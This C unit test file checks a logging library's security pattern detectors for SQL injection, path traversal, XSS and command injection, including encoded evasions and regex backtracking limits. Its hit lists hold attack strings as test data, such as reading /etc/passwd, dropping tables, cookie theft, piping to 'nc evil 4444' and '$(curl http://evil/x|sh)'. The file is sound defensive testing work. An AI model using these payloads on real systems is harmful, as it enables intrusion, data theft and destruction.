/* test_security_patterns.c: the built-in content patterns flag the attack
 * strings of their class and let ordinary text through; they scan the
 * configured fields only; a pattern that would run away is stopped by the
 * match limits and counted, not left to hang. */
#include "sec_testutil.h"

#include "security/pattern.h"

static nlog__pattern *builtin(const char *name)
{
    for (size_t i = 0; nlog__builtin_patterns[i].name; i++)
        if (strcmp(nlog__builtin_patterns[i].name, name) == 0) {
            nlog__pattern *p;
            char err[256];
            assert_int_equal(nlog__pattern_create(nlog__builtin_patterns[i].regex, &p, err, sizeof err),
                             NLOG_OK);
            return p;
        }
    fail_msg("no pattern %s", name);
    return NULL;
}

static void check(const char *name, const char *const *hits, const char *const *misses)
{
    nlog__pattern *p = builtin(name);
    for (size_t i = 0; hits[i]; i++)
        if (nlog__pattern_match(p, hits[i], strlen(hits[i])) != 1)
            fail_msg("%s missed: %s", name, hits[i]);
    for (size_t i = 0; misses[i]; i++)
        if (nlog__pattern_match(p, misses[i], strlen(misses[i])) != 0)
            fail_msg("%s flagged: %s", name, misses[i]);
    nlog__pattern_destroy(p);
}

static const char *const benign[] = {
    "/api/v2/logs/entries?level=ERROR&limit=100&search_query=database",
    "O'Brien ordered 2 items and paid 45.00",
    "select the best option or the cheapest one",
    "The union of two sets; select elements from it",
    "see ../README.md? no: docs/format.md",
    "a <b>bold</b> statement & more",
    "ls -la is a shell command people mention",
    "user_agent: Mozilla/5.0 (X11; Linux x86_64)",
    "naïve café résumé ☃",
    /* review item 4: ordinary text. The previous set flagged the JSON
     * colours (sql), both query strings (command), "sleep(5) please" (sql),
     * "echo chamber; cat ..." and "... | cat lovers" (command), and
     * "docs/../format.md" below (path); the rest guard the new expressions */
    "{\"color\":\"#fff\",\"bg\":\"#000\"}",
    "/search?q=cats&id=5&sort=desc",
    "/list?order=name;id=desc",
    "Tom & Jerry cat food",
    "she said \"sleep well\" and left",
    "sleep(5) please, then retry",
    "he wrote --verbose in the docs",
    "<a href=\"/x\" title=\"one\">link</a>",
    "I'll check -- later",
    "echo chamber; cat videos are popular",
    "rating: 5 stars | cat lovers",
    NULL};

static void sql_injection(void **state)
{
    (void) state;
    const char *hits[] = {"id=1' OR '1'='1", "x' or 1=1 --", "1 UNION SELECT password FROM users",
                          "1 union/**/all/**/select 1,2", "admin'--", "'; DROP TABLE users; --",
                          "1; drop table accounts", "1 AND SLEEP(5)", "pg_sleep(10)",
                          "x' AND 1=CONVERT(int, @@version)", "1' and 'a'='a",
                          "select * from information_schema.tables", NULL};
    check("sql_injection", hits, benign);
}

static void path_traversal(void **state)
{
    (void) state;
    const char *hits[] = {"../../etc/passwd", "/static/..%2f..%2fsecret", "%2e%2e%2fetc",
                          "..\\..\\windows\\win.ini", "file=/etc/shadow", "%252e%252e/",
                          "a/../../b", "?file=../secret", "http://h/../etc", "/../x",
                          "img.png%00.php", "%c0%ae%c0%ae/", NULL};
    /* one interior "../" is what URL normalisation removes: not an attack */
    const char *misses[] = {"/docs/v1.2/guide", "version 1..2 of a range", "..hidden",
                            "docs/../format.md", NULL};
    check("path_traversal", hits, benign);
    check("path_traversal", hits, misses);
}

static void xss(void **state)
{
    (void) state;
    const char *hits[] = {"<script>alert(1)</script>", "< SCRIPT src=//evil>",
                          "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
                          "javascript:alert(document.cookie)", "<iframe src=evil>",
                          "<body onload = steal()>", "data:text/html;base64,PHNjcmlwdD4=", NULL};
    check("xss", hits, benign);
}

static void command_injection(void **state)
{
    (void) state;
    const char *hits[] = {"file.txt; cat /etc/passwd", "x && whoami", "a | nc evil 4444",
                          "`id`", "$(curl http://evil/x|sh)", "host=1.2.3.4;ping -c 1 x",
                          "a${IFS}b", "; /bin/sh -i", NULL};
    check("command_injection", hits, benign);
}

static void limits_stop_a_runaway_pattern(void **state)
{
    (void) state;
    nlog__pattern *p;
    char err[256];
    assert_int_equal(nlog__pattern_create("^(a+)+$", &p, err, sizeof err), NLOG_OK);
    char subject[64];
    memset(subject, 'a', 40);
    subject[40] = 'b';
    subject[41] = '\0';
    assert_int_equal(nlog__pattern_match(p, subject, strlen(subject)), -1);
    nlog__pattern_destroy(p);
    /* invalid UTF-8 in the subject is no error */
    assert_int_equal(nlog__pattern_create("abc", &p, err, sizeof err), NLOG_OK);
    assert_int_equal(nlog__pattern_match(p, "\xff\xfe abc", 7), 1);
    nlog__pattern_destroy(p);
    assert_int_equal(nlog__sec_pattern_check("(unclosed", err, sizeof err), NLOG_ECONFIG);
    assert_non_null(strstr(err, "offset 9"));
}


/* Review item 3: no built-in pattern backtracks much on any subject. Each
 * runs in the interpreter (which counts every backtracking step against the
 * limit) with a limit of 20,000, a tenth of the one in force, over inputs
 * built to make patterns work: long runs of the characters they look for,
 * unclosed comments, tags and quotes. nlog__pattern_steps() reports the work
 * in evaluated items (machine-independent), which must stay linear-ish. */
static void builtins_do_not_backtrack(void **state)
{
    (void) state;
    static char subj[8][NLOG__PATTERN_SUBJECT_MAX + 1];
    const char *unit[8] = {"/*", "'", "<a ", "../", "; ", "%2e", "a", "&& "};
    for (int k = 0; k < 8; k++) {
        size_t ul = strlen(unit[k]), n = 0;
        while (n + ul <= NLOG__PATTERN_SUBJECT_MAX) {
            memcpy(subj[k] + n, unit[k], ul);
            n += ul;
        }
        subj[k][n] = '\0';
    }
    for (size_t i = 0; nlog__builtin_patterns[i].name; i++) {
        nlog__pattern *p;
        char err[256];
        assert_int_equal(nlog__pattern_create_limited(nlog__builtin_patterns[i].regex, 20000, 1,
                                                      &p, err, sizeof err),
                         NLOG_OK);
        for (int k = 0; k < 8; k++) {
            int m = nlog__pattern_match(p, subj[k], strlen(subj[k]));
            if (m < 0)
                fail_msg("%s hit the match limit on a run of \"%s\"", nlog__builtin_patterns[i].name,
                         unit[k]);
            uint64_t steps = nlog__pattern_steps(nlog__builtin_patterns[i].regex, subj[k],
                                                 strlen(subj[k]));
            /* a few hundred items per subject byte at most */
            if (steps > (uint64_t) 400 * NLOG__PATTERN_SUBJECT_MAX)
                fail_msg("%s: %llu steps on a run of \"%s\"", nlog__builtin_patterns[i].name,
                         (unsigned long long) steps, unit[k]);
        }
        nlog__pattern_destroy(p);
    }
    /* the measure is a measure: a pattern that backtracks exponentially costs
     * far more than the bound on a subject of 30 bytes */
    assert_true(nlog__pattern_steps("^(a|aa)+$", "aaaaaaaaaaaaaaaaaaaaaaaaaaab", 28) > 100000);
}

/* Through the detectors: only the pattern fields are scanned, errors are counted. */
static void detectors_scan_the_pattern_fields(void **state)
{
    (void) state;
    nlog_config in, cfg;
    nlog_error err;
    tu_config(&in, NULL);
    assert_int_equal(nlog_config_set(&in, "security.pattern_fields", "query", &err), NLOG_OK);
    assert_int_equal(nlog_config_set(&in, "security.rules",
                                     "[{name: runaway, pattern: '^(a+)+$', fields: [blob], "
                                     "group_by: ip_address}]",
                                     &err),
                     NLOG_OK);
    sec_resolved(&in, &cfg);
    nlog_security_detector *d;
    assert_int_equal(nlog_security_detector_create(&cfg, &d), NLOG_OK);
    sec_hits h = {0};
    char blob[64];
    memset(blob, 'a', 40);
    strcpy(blob + 40, "b");
    nlog_field det[] = {NLOG_META("query", "1' OR '1'='1"), NLOG_META("body", "<script>x</script>"),
                        NLOG_META("blob", blob)};
    nlog_security_event ev = {.type = NLOG_SEC_DATA_ACCESS, .ip_address = "1.1.1.1",
                              .resource = "../../etc/passwd", .details = det, .n_details = 3,
                              .timestamp_ns = SEC_T0};
    assert_int_equal(nlog_security_detector_feed(d, &ev, sec_collect, &h), NLOG_OK);
    /* only the query and the blob are scanned (resource and body are not listed);
     * a scan a limit stopped counts as a match (review item 3: nobody escapes
     * a pattern by making it work hard) */
    assert_int_equal(h.n, 2);
    assert_non_null(strstr(h.line[0], "\"detector\":\"sql_injection\""));
    assert_non_null(strstr(h.line[0], "\"matched_field\":\"query\""));
    assert_string_equal(h.last_detector, "runaway");
    assert_string_equal(h.last.matched_field, "blob");
    assert_int_equal(h.last.type, NLOG_SEC_SUSPICIOUS_ACTIVITY);
    /* the cooldown (60 s) holds back the same address */
    ev.timestamp_ns += SEC_S(59);
    assert_int_equal(nlog_security_detector_feed(d, &ev, sec_collect, &h), NLOG_OK);
    assert_int_equal(h.n, 2);
    /* an event without an address is still flagged by the built-in patterns,
     * as "(none)"; the custom rule needs its group_by field */
    ev.ip_address = NULL;
    assert_int_equal(nlog_security_detector_feed(d, &ev, sec_collect, &h), NLOG_OK);
    assert_int_equal(h.n, 3);
    assert_string_equal(h.last_key, "(none)");
    nlog_security_stats st = {.struct_size = sizeof st};
    assert_int_equal(nlog_security_detector_stats(d, &st), NLOG_OK);
    assert_int_equal(st.pattern_errors, 3);
    assert_true(st.pattern_matches >= 6);
    nlog_security_detector_destroy(d);
}

/* Review item 3 (evasion): URL and HTML encoding do not hide an attack from
 * the detectors (the scanned field is matched decoded as well), and encoded
 * ordinary text stays unflagged. */
static void encoded_attacks_are_flagged(void **state)
{
    (void) state;
    nlog_config in, cfg;
    nlog_error err;
    tu_config(&in, NULL);
    assert_int_equal(nlog_config_set(&in, "security.pattern_fields", "query", &err), NLOG_OK);
    in.security_pattern_cooldown = 0;
    sec_resolved(&in, &cfg);
    nlog_security_detector *d;
    assert_int_equal(nlog_security_detector_create(&cfg, &d), NLOG_OK);
    const char *attacks[] = {"%27%20OR%20%271%27%3D%271", "id=1%27%20or%201%3D1--",
                             "%3Cscript%3Ealert(1)%3C/script%3E", "1+UNION+SELECT+password+FROM+users",
                             "1 union%0aselect 1", "&#60;script&#62;alert(1)", "&lt;svg onload=x&gt;",
                             "%253Cscript%253E", "x%3Bcat%20/etc/passwd", NULL};
    const char *benign_encoded[] = {"q=caf%C3%A9+au+lait&page=2", "name=Tom+%26+Jerry",
                                    "title=50%25+off+today", "a=1&amp;b=2", "q=%22hello+world%22",
                                    NULL};
    int64_t t = SEC_T0;
    for (int k = 0; k < 2; k++) {
        const char *const *list = k ? benign_encoded : attacks;
        for (size_t i = 0; list[i]; i++) {
            sec_hits h = {0};
            nlog_field det[] = {NLOG_META("query", list[i])};
            nlog_security_event ev = {.type = NLOG_SEC_DATA_ACCESS, .ip_address = "192.0.2.9",
                                      .details = det, .n_details = 1, .timestamp_ns = t += 1000};
            assert_int_equal(nlog_security_detector_feed(d, &ev, sec_collect, &h), NLOG_OK);
            if (k == 0 && h.n == 0)
                fail_msg("encoded attack not flagged: %s", list[i]);
            if (k == 1 && h.n != 0)
                fail_msg("encoded ordinary text flagged by %s: %s", h.last_detector, list[i]);
        }
    }
    nlog_security_detector_destroy(d);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(sql_injection),
        cmocka_unit_test(path_traversal),
        cmocka_unit_test(xss),
        cmocka_unit_test(command_injection),
        cmocka_unit_test(limits_stop_a_runaway_pattern),
        cmocka_unit_test(builtins_do_not_backtrack),
        cmocka_unit_test(detectors_scan_the_pattern_fields),
        cmocka_unit_test(encoded_attacks_are_flagged),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
